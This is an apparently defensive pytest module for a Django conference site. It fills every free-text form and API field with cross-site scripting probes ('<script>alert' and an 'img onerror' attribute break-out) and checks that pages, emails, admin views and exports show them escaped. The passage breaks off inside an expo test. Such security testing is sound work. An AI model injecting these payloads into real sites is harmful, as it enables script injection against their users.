"""HTML typed by users is shown as text everywhere (issue 10).

Every free-text field a user can fill (found by iterating the fields of each public form and API
serializer, so a field added later is filled too) gets a payload with a <script> element and an
attribute break-out; then every page that shows it (the user's own pages, the public pages, the
reviewers', team leaders' and organizers' pages and the admin), the HTML part of the emails and the
exports are read. Raw markup never appears; its escaped form does. JSON answers carry the text as
data, unchanged. `test_forms_and_serializers_with_free_text_are_all_covered` fails when a form or
serializer taking text is added without being covered here, and `test_every_use_of_safe_markup_is_reviewed`
when a new `mark_safe`, `|safe`, `format_html` or `{% autoescape off %}` appears.
"""
import csv
import importlib
import importlib.util
import inspect
import io
import pkgutil
import re
from pathlib import Path

import pytest
from django import forms
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from rest_framework import serializers as drf

from tests.wic.permission_world import YEAR, build_world
from wic.models import OutgoingEmail

TAIL = '"><img src=x onerror=alert(1)>'
SHORT = "<img src=x onerror=alert(1)>"  # for fields too short for the whole payload (phones: 40)
RAW_MARKERS = ("<script>alert(", "<img src=x onerror")
APPS = ("wic", "agenda", "registration", "forums", "awards", "volunteers", "expo", "people", "protocol")


def payload(name: str, max_length: int | None = None) -> str:
    """The payload for one field, naming the field so that each one can be found on a page."""
    full = f'<script>alert("{name}")</script>{TAIL}'
    if max_length is None or len(full) <= max_length:
        return full
    assert len(SHORT) <= max_length, f"{name} holds only {max_length} characters"
    return SHORT


def assert_no_raw(text: str) -> None:
    for marker in RAW_MARKERS:
        at = text.find(marker)
        assert at == -1, f"unescaped {marker!r}: ...{text[max(0, at - 300): at + 100]}..."


def assert_shows(html: str, *values: str) -> None:
    """No raw markup at all, and each value in its escaped form."""
    assert_no_raw(html)
    for value in values:
        assert escape(value) in html, f"{escape(value)!r} not on the page"


def html_of(client, url: str, status: int = 200) -> str:
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == status, (url, response.status_code)
    assert response["Content-Type"].startswith("text/html")
    return response.content.decode()


# -- the free-text fields of forms and serializers ------------------------------------------------

NOT_FREE_TEXT_FORM = (forms.EmailField, forms.URLField, forms.SlugField, forms.RegexField, forms.UUIDField, forms.GenericIPAddressField, forms.JSONField)
NOT_FREE_TEXT_DRF = (drf.EmailField, drf.URLField, drf.SlugField, drf.RegexField, drf.UUIDField, drf.IPAddressField)


def form_text_fields(form) -> dict[str, int | None]:
    """{field name: max_length} of every free-text field of a form instance."""
    return {
        name: field.max_length for name, field in form.fields.items()
        if isinstance(field, forms.CharField) and not isinstance(field, NOT_FREE_TEXT_FORM)
    }


def filled(form, **other) -> tuple[dict, dict]:
    """(POST data, {field name: payload sent}): every free-text field gets its payload; `other`
    gives the remaining fields (choices, dates, emails) with the form's prefix added."""
    sent = {name: payload(name, max_length) for name, max_length in form_text_fields(form).items()}
    data = {form.add_prefix(name): value for name, value in sent.items()}
    data.update({form.add_prefix(name): value for name, value in other.items()})
    return data, sent


def serializer_text_fields(serializer) -> dict[str, int | None]:
    """{field name: max_length} of every writable free-text field (a CharField, or a dict of them)."""
    found = {}
    for name, field in serializer.fields.items():
        if field.read_only:
            continue
        if isinstance(field, drf.DictField) and isinstance(field.child, drf.CharField):
            found[name] = None
        elif isinstance(field, drf.CharField) and not isinstance(field, NOT_FREE_TEXT_DRF):
            found[name] = field.max_length
    return found


def json_filled(serializer, codes: dict) -> tuple[dict, dict]:
    """(JSON body, {field: payload}): `codes` are the CharFields that carry a code or an address
    the service checks (a country, a website), given real values; every other text field gets its payload."""
    sent = {name: payload(name, max_length) for name, max_length in serializer_text_fields(serializer).items() if name not in codes}
    return {**sent, **codes}, sent


# -- the world ---------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """The permission matrix's world (an account per role and what each owns), built once inside
    a transaction rolled back after the module; each test runs in its own savepoint."""
    with django_db_blocker.unblock():
        with transaction.atomic():
            yield build_world()
            transaction.set_rollback(True)


@pytest.fixture(autouse=True)
def english_and_no_throttle(db):
    cache.clear()
    with translation.override("en"):
        yield
    cache.clear()


def signed_in(client, user):
    client.force_login(user)
    return client


def new_user(username: str):
    return get_user_model().objects.create_user(username, email=f"{username}@example.org", password="a-long-test-password-1")


def email_html_ok(email: OutgoingEmail, *values: str) -> None:
    """The HTML part escapes each value exactly once; the text part is plain text (raw is right there)."""
    assert_no_raw(email.body_html)
    assert "&amp;lt;" not in email.body_html, "escaped twice"
    for value in values:
        assert value in email.body_text
        assert escape('<script>alert("') in email.body_html
        assert escape(value.split("</script>")[0]) in email.body_html


def admin_pages(client, obj, *, listed: tuple[str, ...] = (), typed: bool = True) -> None:
    """The object's admin change page shows no raw markup (and, where it shows `typed` text, the
    payload escaped); its changelist neither, and shows the `listed` values escaped."""
    opts = obj._meta
    changelist = html_of(client, reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"))
    assert_shows(changelist, *listed)
    change = html_of(client, reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[obj.pk]))
    assert_no_raw(change)
    if typed:
        assert "&lt;script&gt;" in change or escape(SHORT) in change


def export_rows(client, model_admin_url: str, fmt: str) -> list[list]:
    response = client.get(f"{model_admin_url}export/{fmt}/", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8")[1:])))
    from openpyxl import load_workbook

    return [list(r) for r in load_workbook(io.BytesIO(content), read_only=True).active.iter_rows(values_only=True)]


# -- guest registration --------------------------------------------------------------------------------

def test_registration_page_text_is_escaped_on_every_page_email_and_export(world, client, django_capture_on_commit_callbacks):
    from registration import services
    from registration.forms import RegistrationForm
    from registration.models import Registration

    data, sent = filled(RegistrationForm(), email="xss-guest@example.org", country="FR", category="government", participation="on_site")
    assert set(sent) == {"name", "name_zh", "organization_name", "title", "languages", "accessibility_needs", "allergies"}
    url = f"/editions/{YEAR}/register/"
    # A refused form shows back what was typed, as text.
    refused = client.post(url, data, HTTP_ACCEPT_LANGUAGE="en")
    assert refused.status_code == 400
    assert_shows(refused.content.decode(), *sent.values())
    response = client.post(url, {**data, "consent": "on"}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 302
    registration = Registration.objects.get(email="xss-guest@example.org")
    assert {name: getattr(registration, name) for name in sent} == sent
    page = f"/editions/{YEAR}/registration/{registration.token}/"  # the link the guest is mailed
    assert_shows(html_of(client, page), sent["name"], sent["name_zh"], sent["organization_name"], sent["title"])
    email_html_ok(OutgoingEmail.objects.get(to=["xss-guest@example.org"], event="registration.received"), sent["name"])

    organizer = world.users["organizer"]
    with django_capture_on_commit_callbacks(execute=True):
        services.registration_decide(registration=registration, status="approved", actor=organizer)
    email = OutgoingEmail.objects.get(to=["xss-guest@example.org"], event__contains="decision")
    email_html_ok(email, sent["name"])
    credential = registration.credentials.get()
    assert credential.badge.name.endswith(".pdf")  # the badge task drew the name as text: no markup to break it

    admin = signed_in(client, organizer)
    admin_pages(admin, registration, listed=(sent["name"], sent["name_zh"], sent["organization_name"]))
    admin_pages(admin, credential)
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))
    admin_pages(admin, email)
    for fmt in ("csv", "xlsx"):
        rows = export_rows(admin, "/admin/registration/registration/", fmt)
        mine = next(r for r in rows if r[0] == registration.reference)
        assert mine[1:3] == [sent["name"], sent["name_zh"]]  # data, exactly as typed
    browsable = admin.get(f"/api/v1/registrations/{registration.pk}/", HTTP_ACCEPT="text/html", HTTP_ACCEPT_LANGUAGE="en")
    assert browsable["Content-Type"].startswith("text/html")
    assert_no_raw(browsable.content.decode())
    assert escape('"name": "<script>alert(\\"name\\")</script>') in browsable.content.decode()  # JSON, then HTML-escaped

    # The check-in screen gets the guest as JSON data; the gate and device names a gate phone sends are text in the admin.
    gate = signed_in(client, world.users["gate"])
    device, gate_name = payload("device", 100), payload("gate", 100)
    scan = gate.post(
        "/api/v1/checkins/", {"list": world.ids["checkin_list"], "secret": credential.secret, "nonce": "xss-1", "device": device, "gate": gate_name,
         "scanned_at": f"{world_edition().start_date.isoformat()}T10:00:00+08:00"},
        content_type="application/json", HTTP_ACCEPT_LANGUAGE="en",
    )
    assert (scan.status_code, scan["Content-Type"], scan.json()["result"]) == (200, "application/json", "ok")
    assert (scan.json()["guest"]["name"], scan.json()["guest"]["organization"]) == (sent["name"], sent["organization_name"])
    from registration.models import Checkin

    admin = signed_in(client, organizer)
    admin_pages(admin, Checkin.objects.get(device=device, gate=gate_name), listed=(device, gate_name))


def test_registration_api_keeps_text_as_data_and_pages_escape_it(world, api_client):
    from registration.models import Registration
    from registration.serializers import RegistrationInputSerializer

    body, sent = json_filled(RegistrationInputSerializer(), codes={})
    assert set(sent) == {"name", "name_zh", "organization_name", "title", "languages", "accessibility_needs", "allergies"}
    body.update(edition=YEAR, email="xss-api@example.org", country="KE", category="academia", participation="on_site", consent=True)
    response = api_client.post("/api/v1/registrations/", body, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 202 and response["Content-Type"] == "application/json"
    registration = Registration.objects.get(email="xss-api@example.org")
    assert {name: getattr(registration, name) for name in sent} == sent
    page = f"/editions/{YEAR}/registration/{registration.token}/"  # the link the guest is mailed
    assert_shows(html_of(api_client, page), sent["name"], sent["organization_name"], sent["title"])


# -- sub-forum applications ----------------------------------------------------------------------------

def _call(world):
    from forums.models import CallQuestion, ForumCall

    call = ForumCall.objects.get(pk=world.ids["call"])
    CallQuestion.objects.create(call=call, text_zh="需要同传吗？", text_en="Interpretation?", sort_order=0)
    return call


def test_forum_application_text_is_escaped_for_applicant_reviewer_organizer_agenda_and_email(world, client, django_capture_on_commit_callbacks):
    from forums import services
    from forums.forms import ApplicationForm, ReviewForm
    from forums.models import ForumApplication

    call = _call(world)
    edition = call.edition
    form = ApplicationForm(call=call)
    data, sent = filled(
        form, format="round_table", preferred_date=edition.start_date.isoformat(), preferred_half_day="morning",
        expected_attendance="120", contact_email="forum@example.org",
    )
    question = call.questions.get()
    assert set(sent) == {
        "title_zh", "title_en", "theme_zh", "theme_en", "new_hosts", "new_co_hosts", "planned_speakers", "planned_outcomes",
        "contact_name", "contact_phone", "rationale", "interpretation_note", f"q_{question.pk}",
    }
    applicant = signed_in(client, world.users["applicant"])
    saved = applicant.post(f"/editions/{YEAR}/forums/apply/", {**data, "action": "save"}, HTTP_ACCEPT_LANGUAGE="en")
    assert saved.status_code == 302
    application = ForumApplication.objects.get(applicant=world.users["applicant"], title_zh=sent["title_zh"])
    for name in ("title_zh", "title_en", "theme_zh", "theme_en", "planned_speakers", "planned_outcomes", "contact_name", "contact_phone", "rationale", "interpretation_note"):
        assert getattr(application, name) == sent[name]
    assert application.answers == {str(question.pk): sent[f"q_{question.pk}"]}
    assert sorted((o.role, o.proposed_name_zh) for o in application.organizations.all()) == [("co_host", sent["new_co_hosts"]), ("host", sent["new_hosts"])]
    edit_page = html_of(applicant, saved["Location"])
    assert_shows(edit_page, *sent.values())
    submitted = applicant.post(saved["Location"], {**data, "action": "submit"}, HTTP_ACCEPT_LANGUAGE="en")
    assert submitted.status_code == 302
    assert_shows(html_of(applicant, f"/editions/{YEAR}/forums/mine/"), sent["title_en"], sent["new_hosts"])

    reviewer = signed_in(client, world.users["reviewer"])
    assert_shows(html_of(reviewer, f"/editions/{YEAR}/forums/review/"), sent["title_en"])
    review_url = f"/editions/{YEAR}/forums/review/{application.pk}/"
    assert_shows(html_of(reviewer, review_url), sent["title_en"], sent["theme_en"], sent["planned_speakers"], sent["planned_outcomes"], sent["rationale"], sent["interpretation_note"])
    review_form = ReviewForm(criteria=call.criteria.all())
    review_data, comments = filled(review_form, **{f"score_{c.pk}": "4" for c in call.criteria.all()})
    assert len(comments) == call.criteria.count() == 2
    assert reviewer.post(review_url, review_data, HTTP_ACCEPT_LANGUAGE="en").status_code == 302

    organizer = world.users["organizer"]
    admin = signed_in(client, organizer)
    admin_pages(admin, application, listed=(sent["title_zh"],))
    assert_shows(html_of(admin, reverse("admin:forums_forumapplication_change", args=[application.pk])), *comments.values())
    assert_no_raw(html_of(admin, reverse("admin:forums_forumapplication_decide", args=[application.pk])))
    admin_pages(admin, application.reviews.first())
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))
    rows = export_rows(admin, "/admin/forums/forumapplication/", "csv")
    assert any(sent["title_zh"] in row for row in rows)

    with django_capture_on_commit_callbacks(execute=True):
        services.application_transition(application=application, to_state="accepted", actor=organizer)
    email = OutgoingEmail.objects.filter(event__contains="forum").latest("pk")
    email_html_ok(email, sent["title_zh"])
    assert_no_raw(html_of(admin, f"/admin/forums/forumapplication/placement/?edition={YEAR}"))
    # Placed on the agenda, the applicant's title, theme and organizations are public.
    application.refresh_from_db()
    session = application.session
    session.is_published = True
    session.save()
    admin_pages(admin, session)
    public = Client()
    agenda = html_of(public, f"/editions/{YEAR}/agenda/?day={session.date.isoformat()}")
    assert_shows(agenda, sent["title_en"])
    assert_shows(html_of(public, f"/editions/{YEAR}/sessions/{session.pk}/"), sent["title_en"], sent["theme_en"], sent["new_hosts"])
    from wic.models import Organization

    admin = signed_in(client, organizer)
    admin_pages(admin, Organization.objects.get(name_zh=sent["new_hosts"]), listed=(sent["new_hosts"],))


def test_forum_api_keeps_text_as_data_and_pages_escape_it(world, api_client):
    from forums.serializers import ApplicationOrganizationInputSerializer, ForumApplicationWriteSerializer, ReviewInputSerializer, ScoreSerializer

    call = _call(world)
    question = call.questions.get()
    body, sent = json_filled(ForumApplicationWriteSerializer(), codes={"answers": {str(question.pk): payload("answer")}})
    assert set(sent) == {"title_zh", "title_en", "theme_zh", "theme_en", "planned_speakers", "planned_outcomes", "contact_name", "contact_phone", "rationale"}
    org_body, org_sent = json_filled(ApplicationOrganizationInputSerializer(), codes={})
    assert set(org_sent) == {"name_zh", "name_en"}
    body.update(call=call.pk, contact_email="api@example.org", organizations=[{"role": "host", **org_body}])
    api = signed_in(api_client, world.users["applicant"])
    response = api.post("/api/v1/forum-applications/", body, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 201 and response["Content-Type"] == "application/json"
    answer = response.json()
    assert {name: answer[name] for name in sent} == sent
    assert answer["answers"] == {str(question.pk): payload("answer")}
    assert (answer["organizations"][0]["name_zh"], answer["organizations"][0]["name_en"]) == (org_sent["name_zh"], org_sent["name_en"])
    assert_shows(html_of(api, f"/editions/{YEAR}/forums/apply/{answer['id']}/"), *sent.values(), payload("answer"), org_sent["name_zh"])

    # A reviewer's comments through the API are text on the organizers' page.
    assert set(serializer_text_fields(ScoreSerializer())) == {"comment"} and not serializer_text_fields(ReviewInputSerializer())
    reviewer = signed_in(api_client, world.users["reviewer"])
    scores = {str(pk): {"score": 3, "comment": payload(f"comment-{pk}")} for pk in world.ids["criteria"]}
    reviewed = reviewer.post(f"/api/v1/forum-applications/{world.ids['submitted']}/review/", {"scores": scores}, format="json")
    assert reviewed.status_code == 200
    admin = signed_in(api_client, world.users["organizer"])
    change = html_of(admin, reverse("admin:forums_forumapplication_change", args=[world.ids["submitted"]]))
    assert_shows(change, *(s["comment"] for s in scores.values()))


# -- awards --------------------------------------------------------------------------------------------

def test_award_recommendation_nomination_and_application_text_is_escaped(world, client):
    from awards.forms import ApplicationForm, IndividualForm, RecommendForm
    from awards.models import AwardProgramme, Nomination, Recommendation

    programme = AwardProgramme.objects.get(pk=world.ids["programme"])
    member_id = world.ids["member"]
    rep = signed_in(client, world.users["member-representative"])

    data, sent = filled(RecommendForm(programme=programme), country="FR")
    assert set(sent) == {"name_zh", "name_en"}
    page = rep.post(f"/awards/{programme.pk}/recommend/", {**data, "member": member_id}, HTTP_ACCEPT_LANGUAGE="en", follow=True)
    assert page.redirect_chain[-1][1] == 302
    recommendation = Recommendation.objects.get(enterprise__name_zh=sent["name_zh"])
    assert recommendation.enterprise.name_en == sent["name_en"]
    assert_shows(page.content.decode(), sent["name_en"])  # the success message and the list

    individual = IndividualForm(prefix=f"p{programme.pk}")
    data, person = filled(individual)
    assert set(person) == {"person_name", "person_affiliation", "citation"}
    page = rep.post(f"/awards/{programme.pk}/nominate/", {**data, "member": member_id}, HTTP_ACCEPT_LANGUAGE="en", follow=True)
    nomination = Nomination.objects.get(person_name=person["person_name"])
    assert (nomination.person_affiliation, nomination.citation) == (person["person_affiliation"], person["citation"])
    assert_shows(page.content.decode(), person["person_name"], person["person_affiliation"])

    applicant = signed_in(client, world.users["applicant"])
    form = ApplicationForm(programme=programme)
    data, statement = filled(
        form, categories=[world.ids["category"]], further_conditions=[programme.further_conditions.get().pk], endorses_purposes="on",
        contact_email="award@example.org",
    )
    assert set(statement) == {"basic_condition_statement", "contact_name"}
    url = f"/awards/{programme.pk}/apply/?enterprise={world.ids['enterprise_x']}"
    assert applicant.post(url, {**data, "enterprise": world.ids["enterprise_x"], "action": "save"}, HTTP_ACCEPT_LANGUAGE="en").status_code == 302
    application = Nomination.objects.get(pk=world.ids["nomination"])
    assert (application.basic_condition_statement, application.contact_name) == (statement["basic_condition_statement"], statement["contact_name"])
    assert_shows(html_of(applicant, url), *statement.values())

    admin = signed_in(client, world.users["organizer"])
    admin_pages(admin, nomination, listed=(person["person_name"],))
    admin_pages(admin, application)
    admin_pages(admin, recommendation, listed=(sent["name_zh"],))
    admin_pages(admin, recommendation.enterprise, listed=(sent["name_zh"],))
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))
    rows = export_rows(admin, "/admin/awards/nomination/", "csv")
    assert any(person["person_name"] in row for row in rows)
    assert_no_raw(html_of(Client(), f"/editions/{YEAR}/awards/"))


def test_award_api_keeps_text_as_data_and_pages_escape_it(world, api_client):
    from awards.serializers import NominationInputSerializer, RecommendationInputSerializer, ScoreInputSerializer

    rep = signed_in(api_client, world.users["member-representative"])
    body, sent = json_filled(RecommendationInputSerializer(), codes={"enterprise_country": "FR"})
    assert set(sent) == {"enterprise_name_zh", "enterprise_name_en"}
    response = rep.post("/api/v1/recommendations/", {**body, "programme": world.ids["programme"], "member": world.ids["member"]}, format="json")
    assert response.status_code == 201 and response["Content-Type"] == "application/json"
    assert (response.json()["enterprise_name_zh"], response.json()["enterprise_name_en"]) == (sent["enterprise_name_zh"], sent["enterprise_name_en"])

    body, person = json_filled(NominationInputSerializer(), codes={})
    assert set(person) == {"basic_condition_statement", "contact_name", "person_name", "person_affiliation", "citation"}
    response = rep.post(
        "/api/v1/nominations/",
        {**body, "programme": world.ids["programme"], "direction": "individual", "member": world.ids["member"]}, format="json",
    )
    assert response.status_code == 201
    assert {name: response.json()[name] for name in ("person_name", "person_affiliation", "citation")} == {
        name: person[name] for name in ("person_name", "person_affiliation", "citation")
    }
    assert_shows(html_of(rep, "/awards/"), person["person_name"], sent["enterprise_name_en"])

    # An expert's comment is text on the organizers' page of the nomination.
    assert set(serializer_text_fields(ScoreInputSerializer())) == {"comment"}
    expert = signed_in(api_client, world.users["reviewer"])
    scored = expert.post(f"/api/v1/nominations/{world.ids['individual_nomination']}/score/", {"score": 8, "comment": payload("comment")}, format="json")
    assert scored.status_code == 201 and scored.json()["comment"] == payload("comment")
    admin = signed_in(api_client, world.users["organizer"])
    assert_shows(html_of(admin, reverse("admin:awards_nomination_change", args=[world.ids["individual_nomination"]])), payload("comment"))


# -- volunteers ----------------------------------------------------------------------------------------

def test_volunteer_application_and_request_text_is_escaped_for_lead_organizer_and_email(world, client, django_capture_on_commit_callbacks):
    from volunteers import services
    from volunteers.forms import ApplicationForm, ChangeRequestForm
    from volunteers.models import ChangeRequest, Programme, Team, Volunteer

    programme = Programme.objects.get(edition__year=YEAR)
    user = new_user("xss-volunteer")
    applicant = signed_in(client, user)
    data, sent = filled(ApplicationForm(days=services.programme_days(programme)), email="xss-volunteer@example.org")
    assert set(sent) == {"name", "university", "student_number", "phone", "motivation"}
    page = applicant.post(f"/editions/{YEAR}/volunteer/apply/", data, HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 201
    assert_shows(page.content.decode(), sent["name"])
    volunteer = Volunteer.objects.get(email="xss-volunteer@example.org")
    assert {name: getattr(volunteer, name) for name in sent} == sent

    organizer = world.users["organizer"]
    for round in range(1, programme.interview_rounds + 1):
        services.interview_record(volunteer=volunteer, round=round, score=80, interviewer=organizer)
    with django_capture_on_commit_callbacks(execute=True):
        services.volunteer_decide(volunteer=volunteer, status="accepted", actor=organizer)
    email_html_ok(OutgoingEmail.objects.get(to=["xss-volunteer@example.org"]), sent["name"])
    services.team_add_member(team=Team.objects.get(leader=world.users["volunteer-lead"]), volunteer=volunteer)
    assert_shows(html_of(signed_in(client, user), "/volunteer/"), sent["name"])

    # A volunteer's reason for dropping a shift reaches the team leader.
    data, reason = filled(ChangeRequestForm(), kind="drop")
    assert set(reason) == {"reason"}
    mine = signed_in(client, world.users["volunteer"])
    assert mine.post(f"/volunteer/shifts/{world.ids['assignment_later']}/request/", data, HTTP_ACCEPT_LANGUAGE="en").status_code == 302
    change = ChangeRequest.objects.get(reason=reason["reason"])
    lead = signed_in(client, world.users["volunteer-lead"])
    assert_shows(html_of(lead, "/volunteer/lead/"), sent["name"], sent["phone"], reason["reason"])
    hours = lead.get("/volunteer/lead/hours.csv")
    rows = list(csv.reader(io.StringIO(hours.content.decode("utf-8")[1:])))
    assert [sent["name"], sent["university"], sent["student_number"]] in [r[:3] for r in rows]

    admin = signed_in(client, organizer)
    admin_pages(admin, volunteer, listed=(sent["name"], sent["university"]))
    admin_pages(admin, change)
    assert_no_raw(html_of(admin, f"/admin/dashboard/{YEAR}/"))
    rows = export_rows(admin, "/admin/volunteers/volunteer/", "xlsx")
    assert any(sent["name"] in row for row in rows)


def test_volunteer_api_text_is_escaped_on_the_lead_and_admin_pages(world, api_client):
    """Issue 28: the volunteers' API writes what their pages write (an application's name,
    university, student number, phone and motivation; an interview's note; a drop request's
    reason), and each reaches the lead's page and the admin escaped. A code (a volunteer's QR code
    at a shift or a training) is looked up, never shown: one with markup is refused in JSON."""
    from volunteers.models import ChangeRequest, Interview, Programme, Volunteer
    from volunteers.serializers import (
        ChangeRequestInputSerializer, ShiftScanInputSerializer, TrainingAttendanceByCodeInputSerializer, VolunteerApplicationInputSerializer,
        VolunteerInterviewInputSerializer,
    )

    programme = Programme.objects.get(edition__year=YEAR)
    body, sent = json_filled(VolunteerApplicationInputSerializer(), codes={})
    assert set(sent) == {"name", "university", "student_number", "phone", "motivation"}
    response = api_client.post("/api/v1/volunteers/", {**body, "programme": programme.pk, "email": "xss-vol-api@example.org"}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 201, response.content[:300]
    volunteer = Volunteer.objects.get(email="xss-vol-api@example.org")
    assert {name: getattr(volunteer, name) for name in sent} == sent

    admin = signed_in(api_client, world.users["organizer"])
    body, note = json_filled(VolunteerInterviewInputSerializer(), codes={})
    assert set(note) == {"note"}
    recorded = admin.post(f"/api/v1/volunteers/{volunteer.pk}/interviews/", {**body, "round": 1, "score": 80}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert recorded.status_code in (200, 201), recorded.content[:300]
    assert Interview.objects.get(volunteer=volunteer).note == note["note"]
    admin_pages(admin, volunteer, listed=(sent["name"], sent["university"]))

    body, reason = json_filled(ChangeRequestInputSerializer(), codes={})
    assert set(reason) == {"reason"}
    mine = signed_in(api_client, world.users["volunteer"])
    asked = mine.post("/api/v1/change-requests/", {**body, "assignment": world.ids["assignment_later"], "kind": "drop"}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert asked.status_code == 201, asked.content[:300]
    change = ChangeRequest.objects.get(reason=reason["reason"])
    lead = signed_in(api_client, world.users["volunteer-lead"])
    assert_shows(html_of(lead, "/volunteer/lead/"), reason["reason"])
    admin_pages(signed_in(api_client, world.users["organizer"]), change)

    lead = signed_in(api_client, world.users["volunteer-lead"])
    for path, serializer in ((f"/api/v1/shift-scans/", ShiftScanInputSerializer()), (f"/api/v1/training-modules/{world.ids['module']}/attendance-by-code/", TrainingAttendanceByCodeInputSerializer())):
        body, code = json_filled(serializer, codes={})
        assert set(code) == {"code"}
        refused = lead.post(path, body, format="json", HTTP_ACCEPT_LANGUAGE="en")
        assert 400 <= refused.status_code < 500 and refused["Content-Type"] == "application/json", (path, refused.status_code)


def test_a_hosts_speaker_invitation_is_escaped_on_its_page_the_email_and_the_admin(world, client):
    """Issue 22: a sub-forum's host invites a speaker (forums.forms.HostInviteForm); the names,
    titles and affiliations typed reach the host's page, the email and the admin escaped."""
    from datetime import timedelta

    from django.utils import timezone

    from agenda.models import Session
    from forums.forms import HostInviteForm
    from forums.models import ForumApplication, ForumCall
    from people.models import Appearance
    from wic.models import Edition

    edition = Edition.objects.get(year=YEAR)
    day = edition.start_date
    session = Session.objects.create(edition=edition, title_zh="主办方邀请测试", date=day, kind="sub_forum", is_published=True)
    now = timezone.now()
    call = ForumCall.objects.create(edition=edition, title_zh="征集", opens_at=now - timedelta(days=9), closes_at=now - timedelta(days=1))
    host = new_user("xss-host")
    application = ForumApplication.objects.create(call=call, applicant=host, state="accepted", title_zh="主办方邀请测试", session=session)
    data, sent = filled(HostInviteForm(), email="xss-speaker@example.org", role="keynote", language="en", invite="1")
    assert set(sent) == {"name_zh", "name_en", "title_zh", "title_en", "affiliation_zh", "affiliation_en"}
    page = signed_in(client, host).post(f"/editions/{YEAR}/forums/mine/{application.pk}/speakers/", data, HTTP_ACCEPT_LANGUAGE="en", follow=True)
    assert page.status_code == 200
    assert_shows(page.content.decode(), sent["name_en"], sent["title_en"], sent["affiliation_en"])
    appearance = Appearance.objects.get(session=session)
    assert (appearance.person.name_zh, appearance.title_zh, appearance.affiliation_en) == (sent["name_zh"], sent["title_zh"], sent["affiliation_en"])
    email_html_ok(OutgoingEmail.objects.get(to=["xss-speaker@example.org"]), sent["name_en"])
    admin = signed_in(client, world.users["organizer"])
    admin_pages(admin, appearance)
    admin_pages(admin, appearance.person)


def test_speaker_invitations_through_the_api_are_escaped_on_the_pages_and_the_admin(world, api_client):
    """Issue 28: an organizer invites a speaker through the API (people.api_invitations), and the
    speaker answers at their link (`/api/v1/speaker-replies/<token>/`); the names, titles,
    affiliations and bio typed reach the item's page, the person's page and the admin escaped."""
    from agenda.models import Session
    from people import invitations
    from people.models import Appearance
    from people.serializers_invitations import SpeakerAnswerSerializer, SpeakerInviteSerializer
    from wic.models import Edition

    edition = Edition.objects.get(year=YEAR)
    session = Session.objects.create(edition=edition, title_zh="接口邀请测试", date=edition.start_date, kind="sub_forum", is_published=True)
    body, sent = json_filled(SpeakerInviteSerializer(), codes={"role": "keynote", "email": "xss-api-speaker@example.org", "language": "en"})
    assert set(sent) == {"name_zh", "name_en", "title_zh", "title_en", "affiliation_zh", "affiliation_en"}
    admin = signed_in(api_client, world.users["organizer"])
    invited = admin.post("/api/v1/speaker-invitations/", {**body, "session": session.pk}, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert invited.status_code == 201, invited.content[:300]
    appearance = Appearance.objects.get(session=session)
    assert (appearance.person.name_en, appearance.title_zh, appearance.affiliation_en) == (sent["name_en"], sent["title_zh"], sent["affiliation_en"])
    admin_pages(admin, appearance)

    body, answered = json_filled(SpeakerAnswerSerializer(), codes={"answer": "confirm", "attendance_mode": "online"})
    assert set(answered) == {"title_zh", "title_en", "affiliation_zh", "affiliation_en", "bio_zh", "bio_en"}
    api_client.logout()
    reply = api_client.post(f"/api/v1/speaker-replies/{invitations.speaker_token(appearance)}/", body, format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert reply.status_code == 200, reply.content[:300]
    appearance.refresh_from_db()
    assert (appearance.status, appearance.person.bio_en, appearance.title_en) == ("confirmed", answered["bio_en"], answered["title_en"])
    assert_shows(html_of(api_client, f"/editions/{YEAR}/sessions/{session.pk}/"), answered["title_en"])
    admin = signed_in(api_client, world.users["organizer"])
    admin_pages(admin, appearance)
    admin_pages(admin, appearance.person)


def test_seating_block_labels_from_the_api_are_escaped_on_the_plan(world, api_client):
    """Issue 28: a seating plan made through the API names its tables (PlanBlockInputSerializer);
    the labels reach the plan's page and the admin escaped. The layout is a choice, never shown."""
    from protocol.models import InvitationItem, SeatingPlan
    from protocol.serializers_seating import PlanBlockInputSerializer

    item = InvitationItem.objects.get(pk=world.ids["invitation_item"])
    SeatingPlan.objects.filter(item=item).delete()
    assert set(serializer_text_fields(PlanBlockInputSerializer())) == {"label"}
    label = {"label": payload("label", 40)}  # the seating rules take 40 characters
    block = dict(label)
    admin = signed_in(api_client, world.users["organizer"])
    made = admin.post("/api/v1/seating-plans/", {"item": item.pk, "layout": "tables", "blocks": [{**block, "seats": 8, "is_head": True}]},
                      format="json", HTTP_ACCEPT_LANGUAGE="en")
    assert made.status_code == 201, made.content[:300]
    plan = SeatingPlan.objects.get(item=item)
    assert_shows(html_of(admin, reverse("admin:protocol_seatingplan_change", args=[plan.pk])), label["label"])


# -- the expo ------------------------------------------------------------------------------------------

def test_exhibitor_text_is_escaped_on_directory_pages_agenda_admin_and_emails(world, client, django_capture_on_commit_callbacks):
    from expo import services
    from expo.forms import ApplicationForm, ExhibitorEditForm, LaunchForm, MeetingForm, OpeningForm
    from expo.models import Booth, Exhibitor, Launch, MeetingRequest, TalentListing, Zone

    edition = world_edition()
    user = new_user("xss-exhibitor")
    rep = signed_in(client, user)
    zones = list(Zone.objects.filter(edition=edition))
    data, sent = filled(ApplicationForm(zones=zones), country="CN", fields=["ai"], booth_size="9", website="https://example.org/x", contact_email="xss-ex@example.org")
    assert set(sent) == {"organization_name_zh", "organization_name_en", "products_zh", "products_en", "description_zh", "description_en", "contact_name", "contact_phone"}
